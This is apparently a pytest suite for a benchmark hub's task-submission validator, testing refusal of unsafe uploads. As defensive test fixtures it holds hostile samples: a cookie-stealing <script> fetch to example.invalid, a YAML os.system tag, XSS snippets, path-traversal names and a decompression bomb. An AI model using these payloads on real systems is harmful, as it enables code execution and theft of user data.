"""validate_task: a clean submission passes every check; unsafe, mislabelled, unlicensed, trivial or
overlapping submissions are refused with their reason, and validating never writes outside its target."""

from __future__ import annotations

import os
import zipfile
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from buildbench.errors import InputError, MissingDependencyError
from buildbench.hub.checks import Check
from buildbench.hub.checks_data import RULE_IDS
from buildbench.hub.registry import Registry
from buildbench.hub.safety import Limits
from buildbench.hub.unpack import extract_archive
from buildbench.hub.validate import (
    CHECK_IDS,
    CHECKS,
    CheckSpec,
    Submission,
    declaration_problems,
    format_report,
    refused_report,
    run_checks,
    validate_submission,
    validate_task,
)
from buildbench.tasks import write_retrieval_task
from tests.hub.submission_tasks import (
    CORPUS_SHARD,
    OTHER_SUBJECTS,
    assert_rejected,
    edit_header,
    edit_record,
    files_under,
    tar_with,
    task_info,
    task_tables,
    write_task,
)


@pytest.fixture
def clean_task(tmp_path: Path) -> Path:
    return write_task(tmp_path / "submission" / "village")


# -- a clean task


def test_clean_task_passes_every_check(clean_task: Path, tmp_path: Path):
    registry = Registry(tmp_path / "registry")
    registry.add_task(write_task(tmp_path / "other", "HarbourStoriesRetrieval", subjects=OTHER_SUBJECTS, seed=3),
                      repo="org/harbour", version="v1.0.0")
    report = validate_task(clean_task, registry)
    assert report.ok, format_report(report)
    ids = [c.id for c in report.checks]
    assert ids[:3] == ["paths", "extensions", "sizes"]  # safety first
    assert {"card_yaml", "card_paths", "declared_sizes", "card_html", "metadata", "schema", "ids", "license",
            "empty_splits", "min_text_length", "duplicate_corpus_texts", "duplicate_query_texts",
            "relevant_document", "dangling_qrels", "language", "overlap", "baselines"} <= set(ids)
    assert not any(c.skipped for c in report.checks)
    assert report.check("overlap").reason == "no overlap above 5% with 1 registered task(s)"
    assert report.check("language").reason == "declared en: queries 30/30, corpus 150/150 sampled texts match"
    assert report.check("baselines").reason.startswith("random nDCG@10 0.0")
    text = format_report(report)
    assert text.splitlines()[0].startswith("PASS  paths")
    assert text.endswith(f"{clean_task}: all {len(report.checks)} checks passed")


def test_compiled_mteb_module_and_dotfiles_are_left_out_of_a_submission(clean_task: Path):
    # buildbench's own compiled task module is rebuilt at publish time; validate_submission does not send it.
    (clean_task / "VillageStoriesRetrieval_task.py").write_text("from mteb import x\n")
    (clean_task / ".task.json.tmp").write_text("{}")
    assert validate_submission(clean_task).ok
    # validate_task judges the folder exactly as it is.
    assert_rejected(validate_task(clean_task), "extensions",
                    ".task.json.tmp is a '.tmp' file; VillageStoriesRetrieval_task.py is a Python loader script "
                    "(only .parquet, .json, .md, .jsonl, .txt files are accepted)")


# -- malicious submissions


def test_card_data_files_path_escaping_the_folder(clean_task: Path, tmp_path: Path):
    before = files_under(tmp_path)

    def escape(header):
        header["configs"][0]["data_files"][0]["path"] = "../../x/test-*.parquet"

    edit_header(clean_task, escape)
    report = validate_task(clean_task)
    assert_rejected(report, "card_paths",
                    "config 'corpus' data path: the name '../../x/test-*.parquet' has a '..' component (path traversal)")
    assert report.check("schema").skipped  # the data is not read through a card that points outside
    assert files_under(tmp_path) == before


def test_card_data_files_url_and_absolute_path(clean_task: Path):
    def elsewhere(header):
        header["configs"][1]["data_files"] = "hf://datasets/someone/else/queries.parquet"
        header["configs"][2]["data_files"] = [{"split": "test", "path": "/etc/passwd"}]

    edit_header(clean_task, elsewhere)
    assert_rejected(validate_task(clean_task), "card_paths",
                    "config 'queries' reads 'hf://datasets/someone/else/queries.parquet', a URL outside this "
                    "submission; config 'default' data path: the name '/etc/passwd' is an absolute path")


def test_python_loader_script_is_refused(clean_task: Path, tmp_path: Path):
    (clean_task / "village.py").write_text("import os\nos.system('touch pwned')\n")
    (clean_task / "corpus" / "embeddings.pkl").write_bytes(b"\x80\x04K\x01.")
    before = files_under(tmp_path)
    report = validate_submission(clean_task)
    assert_rejected(report, "extensions",
                    "corpus/embeddings.pkl is a pickle; village.py is a Python loader script (only .parquet, .json, "
                    ".md, .jsonl, .txt files are accepted)")
    # Nothing past the file checks ran: no card, no Parquet was opened.
    assert all(c.skipped for c in report.checks[3:])
    assert files_under(tmp_path) == before and not (Path.cwd() / "pwned").exists()


def test_declared_two_gigabytes_in_the_card(clean_task: Path):
    def huge(header):
        header["dataset_info"][0]["splits"][0]["num_bytes"] = 2 * 1024**3

    edit_header(clean_task, huge)
    report = validate_task(clean_task)
    assert_rejected(report, "declared_sizes",
                    "README.md dataset_info declares num_bytes of config 'corpus' split 'test' = 2147483648 (2.0 GB), "
                    "above the 1.0 GB limit")
    assert report.check("schema").skipped


def test_parquet_footer_declaring_more_than_the_cap(tmp_path: Path):
    # A small, highly compressible file whose footer declares far more data than it holds: a decompression bomb
    # in miniature (the cap is lowered so the test needs no gigabytes).
    corpus, queries, qrels = task_tables()
    padded = corpus.set_column(2, "text", pa.array([t + " " + "z" * 20_000 for t in corpus.column("text").to_pylist()]))
    task = write_retrieval_task(tmp_path / "bomb", padded, queries, qrels, task_info())
    on_disk = (task / CORPUS_SHARD).stat().st_size
    assert on_disk < 200_000
    declared = sum(pq.read_metadata(task / CORPUS_SHARD).row_group(i).total_byte_size
                   for i in range(pq.read_metadata(task / CORPUS_SHARD).num_row_groups))
    limits = Limits(max_file_bytes=1_000_000, max_total_bytes=1_000_000)
    report = validate_task(task, limits=limits)
    assert report.check("sizes").passed
    failed = report.check("declared_sizes")
    assert not failed.passed
    assert failed.reason.startswith("README.md dataset_info declares num_bytes of config 'corpus' split 'test' = ")
    assert f"{CORPUS_SHARD} declares {declared} bytes (" in failed.reason
    assert "of uncompressed data in its footer, above the 976.6 KB limit" in failed.reason


def test_yaml_python_tag_is_refused_and_never_constructed(clean_task: Path, tmp_path: Path):
    marker = tmp_path / "pwned"
    card = clean_task / "README.md"
    text = card.read_text(encoding="utf-8")
    card.write_text(text.replace("---\n", f"---\nevil: !!python/object/apply:os.system ['touch {marker}']\n", 1),
                    encoding="utf-8")
    report = validate_task(clean_task)
    assert_rejected(report, "card_yaml",
                    "README.md YAML header uses the tag '!!python/object/apply:os.system' (line 2): python tags build "
                    "arbitrary objects and are refused; the header is read with yaml.safe_load only")
    assert not marker.exists()
    assert report.check("card_paths").skipped and report.check("schema").skipped


def test_yaml_alias_bomb_is_refused(clean_task: Path):
    card = clean_task / "README.md"
    bomb = "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\n"
    card.write_text(card.read_text(encoding="utf-8").replace("---\n", "---\n" + bomb, 1), encoding="utf-8")
    assert_rejected(validate_task(clean_task), "card_yaml",
                    "README.md YAML header uses anchors/aliases (line 2); they are refused because they can expand a "
                    "small header into a huge document")


def test_card_with_script_is_refused(clean_task: Path):
    card = clean_task / "README.md"
    text = card.read_text(encoding="utf-8") + "\n<script>fetch('https://example.invalid/?c=' + document.cookie)</script>\n"
    card.write_text(text, encoding="utf-8")
    line = text[: text.index("<script")].count("\n") + 1
    report = validate_task(clean_task)
    assert_rejected(report, "card_html", f"README.md holds HTML the allow-list removes: <script> (line {line})")
    # The data itself is still checked, so the submitter sees every problem at once.
    assert report.check("baselines").passed


@pytest.mark.parametrize("snippet, reason", [
    ('<img src="x.png" onerror="alert(1)">', "HTML the allow-list removes: <img onerror> (line {line})"),
    ("[docs](&#106;avascript:alert(1))", "a javascript: link in <a href> (only http, https, mailto or relative links)"),
    ('<iframe src="https://example.invalid"></iframe>', "HTML the allow-list removes: <iframe>, <iframe src> (line {line})"),
])
def test_card_html_injection_variants(clean_task: Path, snippet: str, reason: str):
    card = clean_task / "README.md"
    text = card.read_text(encoding="utf-8") + "\n" + snippet + "\n"
    card.write_text(text, encoding="utf-8")
    line = text.count("\n") - 1 + 1
    assert_rejected(validate_task(clean_task), "card_html", "README.md holds " + reason.format(line=line))


def test_symlink_to_a_file_outside_is_refused(clean_task: Path, tmp_path: Path):
    secret = tmp_path / "secret.parquet"
    secret.write_bytes((clean_task / CORPUS_SHARD).read_bytes())
    (clean_task / CORPUS_SHARD).unlink()
    os.symlink(secret, clean_task / CORPUS_SHARD)
    report = validate_submission(clean_task)
    assert_rejected(report, "paths", f"{CORPUS_SHARD} is a symbolic link")


def test_archive_member_escaping_the_target_is_refused(clean_task: Path, tmp_path: Path):
    members = {p.relative_to(clean_task).as_posix(): p.read_bytes() for p in clean_task.rglob("*") if p.is_file()}
    members["../../x.txt"] = b"written outside"
    archive = tar_with(tmp_path / "submission.tar.gz", members)
    before = files_under(tmp_path.parent)
    report = validate_submission(archive)
    assert_rejected(report, "paths",
                    "refused submission file: the name '../../x.txt' has a '..' component (path traversal)")
    assert all(c.skipped for c in report.checks[1:])
    assert files_under(tmp_path.parent) == before

    # The extractor on its own: nothing is written, not even the safe members listed before the bad one.
    target = tmp_path / "target"
    with pytest.raises(InputError, match=r"the name '\.\./\.\./x\.txt' has a '\.\.' component"):
        extract_archive(archive, target)
    assert files_under(target) == set()
    assert not (tmp_path.parent / "x.txt").exists() and not (tmp_path / "x.txt").exists()


def test_zip_of_a_clean_task_validates(clean_task: Path, tmp_path: Path):
    zpath = tmp_path / "clean.zip"
    with zipfile.ZipFile(zpath, "w") as zf:
        for p in clean_task.rglob("*"):
            if p.is_file():
                zf.write(p, p.relative_to(clean_task).as_posix())
    report = validate_submission(zpath)
    assert report.ok, format_report(report)


# -- content checks


def test_german_queries_in_an_english_task(tmp_path: Path):
    task = write_task(tmp_path / "german", german=True)
    report = validate_task(task)
    assert_rejected(report, "language",
                    "queries: 0 of 30 sampled texts (0%) are detected as en, below 90% (detected: de 30)")
    assert [c.id for c in report.failed] == ["language"]


def test_card_and_task_json_disagree_on_language(clean_task: Path):
    edit_header(clean_task, lambda h: h.update(language=["de"]))
    assert_rejected(validate_task(clean_task), "language", "task.json says 'en' but README.md says de")


def test_missing_license(clean_task: Path):
    edit_header(clean_task, lambda h: h.pop("license"))
    edit_record(clean_task, lambda r: r.pop("license"))
    report = validate_task(clean_task)
    assert_rejected(report, "license",
                    "no license declared (README.md license or task.json license); a submission needs a known license")
    assert [c.id for c in report.failed] == ["license"]


def test_unknown_license(tmp_path: Path):
    task = write_task(tmp_path / "unknown", license="unknown")
    assert_rejected(validate_task(task), "license",
                    "license 'unknown' declared (README.md license or task.json license); a submission needs a "
                    "known license")


def test_random_baseline_too_high_on_a_tiny_corpus(tmp_path: Path):
    task = write_task(tmp_path / "tiny", n_docs=12, n_queries=6)
    report = validate_task(task)
    check = report.check("baselines")
    assert not check.passed
    ndcg = float(check.reason.split("random nDCG@10 is ")[1].split(" ")[0])
    assert ndcg > 0.1
    assert check.reason == (
        f"random nDCG@10 is {ndcg:.3f} (> 0.1): the corpus is too small or too many documents are relevant for a "
        "ranking to mean anything"
    )


def test_bm25_saturated_when_queries_copy_the_documents(tmp_path: Path):
    corpus, _, _ = task_tables()
    texts = corpus.column("text").to_pylist()[:30]
    queries = pa.table({"id": [f"q{i}" for i in range(30)], "text": [t.rstrip(".") + "?" for t in texts]})
    qrels = pa.table({"query-id": [f"q{i}" for i in range(30)], "corpus-id": [f"d{i}" for i in range(30)],
                      "score": pa.array([1] * 30, pa.int64())})
    task = write_retrieval_task(tmp_path / "copies", corpus, queries, qrels, task_info())
    check = validate_task(task).check("baselines")
    assert not check.passed
    assert check.reason.startswith("BM25 nDCG@10 is ")
    assert check.reason.endswith("(>= 0.95): the task is saturated by word overlap")


def test_score_column_must_be_an_integer(clean_task: Path):
    shard = clean_task / "qrels" / "test-00000-of-00001.parquet"
    table = pq.read_table(shard)
    pq.write_table(table.set_column(2, "score", table.column("score").cast(pa.float64())), shard)
    report = validate_task(clean_task)
    assert_rejected(report, "schema", "qrels/test-00000-of-00001.parquet column 'score' is double, not an integer")
    assert report.check("baselines").skipped


def test_duplicate_ids_and_dangling_qrels(clean_task: Path):
    shard = clean_task / CORPUS_SHARD
    table = pq.read_table(shard)
    ids = table.column("id").to_pylist()
    ids[1] = ids[0]
    pq.write_table(table.set_column(0, "id", pa.array(ids)), shard)
    report = validate_task(clean_task)
    assert_rejected(report, "ids", "corpus: 1 duplicate ids: d0")
    assert report.check("baselines").skipped  # scores over ambiguous ids would mean nothing


def test_a_content_check_that_raises_is_a_failed_check(clean_task: Path, monkeypatch):
    import buildbench.evaluation.evaluate as evaluate

    def broken(*args, **kwargs):
        raise ValueError("tokenizer cannot read this")

    monkeypatch.setattr(evaluate, "evaluate_task", broken)
    assert_rejected(validate_task(clean_task), "baselines",
                    "the check could not run on this data: ValueError: tokenizer cannot read this")


# -- overlap with the registry


def test_overlap_with_a_registered_task(tmp_path: Path):
    registry = Registry(tmp_path / "registry")
    registered = write_task(tmp_path / "registered", "VillageStoriesRetrieval")
    registry.add_task(registered, repo="org/village", version="v1.0.0")
    registry.save()
    registry = Registry.load(tmp_path / "registry")  # fingerprints come from disk, not the task

    # A new task over other people's stories, plus 8 questions copied word for word from the registered task
    # (attached to some of the new task's own documents).
    corpus, queries, qrels = task_tables(seed=5, subjects=OTHER_SUBJECTS)
    _, r_queries, _ = task_tables()
    copied = r_queries.slice(0, 8)
    copy_ids = ["copy-" + i for i in copied.column("id").to_pylist()]
    queries = pa.concat_tables([queries, copied.set_column(0, "id", pa.array(copy_ids))])
    qrels = pa.concat_tables([qrels, pa.table({
        "query-id": copy_ids, "corpus-id": [f"d{i}" for i in range(8)], "score": pa.array([1] * 8, pa.int64()),
    })])
    leaky = write_retrieval_task(tmp_path / "leaky", corpus, queries, qrels, task_info("HarbourStoriesRetrieval"))
    report = validate_task(leaky, registry)
    assert_rejected(report, "overlap",
                    "8 of 38 queries (21.1%) are near-identical (MinHash Jaccard >= 0.8) to queries of registered task "
                    "'VillageStoriesRetrieval' v1.0.0 (> 5%)")

    # Without the copies the other task is fine, and a new version of the registered task is not compared with
    # its own earlier version.
    assert validate_task(write_task(tmp_path / "harbour", "HarbourStoriesRetrieval", seed=5, subjects=OTHER_SUBJECTS),
                         registry).check("overlap").passed
    assert validate_task(registered, registry).check("overlap").reason == (
        "no overlap above 5% with 0 registered task(s)"
    )


def test_hostile_metadata_values_are_refused(clean_task: Path):
    edit_record(clean_task, lambda r: r.update(language={"en": 1}, type=["Reranking"]))
    report = validate_task(clean_task)
    assert_rejected(report, "metadata", "task.json: language is dict, not a string; type is list, not a string")
    assert report.check("schema").skipped and report.check("baselines").skipped


# -- the declared checks and their prerequisites


def test_checks_are_declared_once_each_after_what_they_require():
    assert declaration_problems(CHECKS) == []
    ok = lambda s: Check("x", True, "fine")  # noqa: E731
    bad = (CheckSpec("b", ok, requires=("a",)), CheckSpec("a", ok), CheckSpec("a", ok))
    assert declaration_problems(bad) == ["b requires a, which is not declared before it", "a is declared twice"]


def test_a_clean_report_lists_the_declared_checks_in_order(clean_task: Path):
    report = validate_task(clean_task)
    assert report.ok, format_report(report)
    assert tuple(c.id for c in report.checks) == CHECK_IDS
    assert CHECK_IDS[:3] == ("paths", "extensions", "sizes") and CHECK_IDS[-1] == "baselines"


def test_a_failed_prerequisite_skips_what_needs_it_and_is_named(clean_task: Path):
    card = clean_task / "README.md"
    card.write_text(card.read_text(encoding="utf-8").replace("---\n", "---\nevil: !!python/name:os.system\n", 1),
                    encoding="utf-8")
    report = validate_task(clean_task)
    assert [c.id for c in report.failed] == ["card_yaml"]
    skipped = {c.id: c.reason for c in report.checks if c.skipped}
    # card_paths needs the header; counts and schema need card_paths; everything reading tables needs schema:
    # each names the check where it started, not the one in between.
    assert skipped == {i: "not run: card_yaml failed" for i in (
        "card_paths", "counts", "schema", "ids", *RULE_IDS, "language", "overlap", "baselines")}
    # Checks that do not read the header still run on what they read.
    assert all(report.check(i).passed for i in ("declared_sizes", "card_html", "metadata", "license"))


def test_run_checks_skips_runs_and_guards_declared_specs(tmp_path: Path):
    def boom(_):
        raise RuntimeError("odd\ncontent")

    specs = (
        CheckSpec("a", lambda s: Check("a", False, "bad")),
        CheckSpec("g", lambda s: [Check("g1", True, "ok"), Check("g2", False, "no")], reports=("g1", "g2")),
        CheckSpec("b", lambda s: Check("b", True, "fine"), requires=("g",)),
        CheckSpec("c", boom),
        CheckSpec("d", lambda s: Check("d", True, "fine"), requires=("b", "a")),
        CheckSpec("h", lambda s: [], requires=("c",), reports=("h1", "h2")),
    )
    checks = run_checks(Submission(tmp_path, Limits()), specs)
    assert [(c.id, c.passed, c.skipped, c.reason) for c in checks] == [
        ("a", False, False, "bad"),
        ("g1", True, False, "ok"),
        ("g2", False, False, "no"),
        ("b", False, True, "not run: g2 failed"),  # a group passes only when all its checks pass
        ("c", False, False, "the check could not run on this data: RuntimeError: odd content"),
        ("d", False, True, "not run: g2, a failed"),  # through b's own reason, then a
        ("h1", False, True, "not run: c failed"),  # a group not run is listed under its ids
        ("h2", False, True, "not run: c failed"),
    ]

    def missing(_):
        raise MissingDependencyError("nh3", "hub", "checking card HTML")

    with pytest.raises(MissingDependencyError):  # a missing install is the reviewer's to fix, not a verdict
        run_checks(Submission(tmp_path, Limits()), (CheckSpec("m", missing),))


def test_a_refused_submission_reports_every_declared_check(tmp_path: Path):
    report = refused_report(tmp_path / "x.zip", "refused submission file: x.py is a Python loader script",
                            "the submission was refused")
    assert tuple(c.id for c in report.checks) == CHECK_IDS and not report.ok
    assert [c.id for c in report.failed] == ["paths"]
    assert {c.reason for c in report.checks[1:]} == {"not run: the submission was refused"}
